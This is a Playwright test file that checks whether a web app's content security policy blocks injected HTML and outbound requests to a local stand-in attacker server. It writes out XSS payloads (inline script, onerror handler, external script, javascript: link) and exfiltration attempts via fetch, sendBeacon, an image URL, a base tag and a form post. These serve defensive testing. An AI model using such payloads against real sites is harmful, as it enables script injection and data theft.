import type { Page } from '@playwright/test';
import { type LocalSite, startLocalSite } from './localSite';
import { expect, signUp, test } from './test';

/** The attacker's server, and the requests it has received. */
let elsewhere: LocalSite;
let arrived: string[] = [];

test.beforeAll(async () => {
  elsewhere = await startLocalSite((request, response) => {
    arrived.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').setHeader('content-type', 'text/javascript');
    response.end('window.harmed = "a script from elsewhere";');
  });
});
test.afterAll(() => elsewhere.close());
test.beforeEach(() => void (arrived = []));

/** Injects HTML into the page, as an attacker could after an XSS hole in the app. */
const plant = (page: Page, html: string) =>
  page.evaluate((markup) => {
    const place = document.createElement('div');
    place.innerHTML = markup;
    document.body.append(place);
    for (const { textContent, attributes } of place.querySelectorAll('script')) {
      const script = document.createElement('script');
      for (const { name, value } of attributes) script.setAttribute(name, value);
      script.textContent = textContent;
      document.body.append(script);
    }
  }, html);

/** Counts violations of the content security policy. */
const watchViolations = (page: Page) =>
  page.evaluate(() => {
    const told: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => told.push(effectiveDirective));
    Object.assign(window, { told });
  });
const violations = (page: Page) =>
  page.evaluate(() => [...new Set((window as unknown as { told: string[] }).told)].sort());

test('injected HTML runs nothing', async ({ page }) => {
  await signUp(page);
  await page.goto('/');
  await watchViolations(page);
  await plant(page, '<script>window.harmed = "an inline script"</script>');
  await plant(page, '<img src="data:," onerror="window.harmed = \'a handler\'">');
  await plant(page, `<script src="${elsewhere.origin}/script.js"></script>`);
  await plant(page, '<object data="/assets/nothing.swf"></object>');
  await plant(page, '<a id="lure" href="javascript:window.harmed = \'a link\'">here</a>');
  await page.locator('#lure').dispatchEvent('click');
  await expect
    .poll(() => violations(page))
    .toEqual(expect.arrayContaining(['object-src', 'script-src-attr', 'script-src-elem']));
  expect(await page.evaluate(() => window.harmed)).toBeUndefined();
  expect(arrived).toEqual([]);
});

test('injected HTML sends nothing elsewhere', async ({ page }) => {
  await signUp(page);
  await page.goto('/');
  await watchViolations(page);
  const outcome = await page.evaluate(async (url) => {
    const asked = await fetch(`${url}/fetched`).then(
      () => 'sent',
      () => 'refused',
    );
    return [asked, navigator.sendBeacon(`${url}/beacon`, 'rows')];
  }, elsewhere.origin);
  expect(outcome[0]).toBe('refused');
  await plant(page, `<img src="${elsewhere.origin}/picture?rows"><base href="${elsewhere.origin}/">`);
  await plant(page, `<form id="form" action="${elsewhere.origin}/form" method="post"><input name="a"></form>`);
  await page.evaluate(() => (document.getElementById('form') as HTMLFormElement).submit());
  await expect
    .poll(() => violations(page))
    .toEqual(expect.arrayContaining(['base-uri', 'connect-src', 'form-action', 'img-src']));
  expect(arrived).toEqual([]);
});
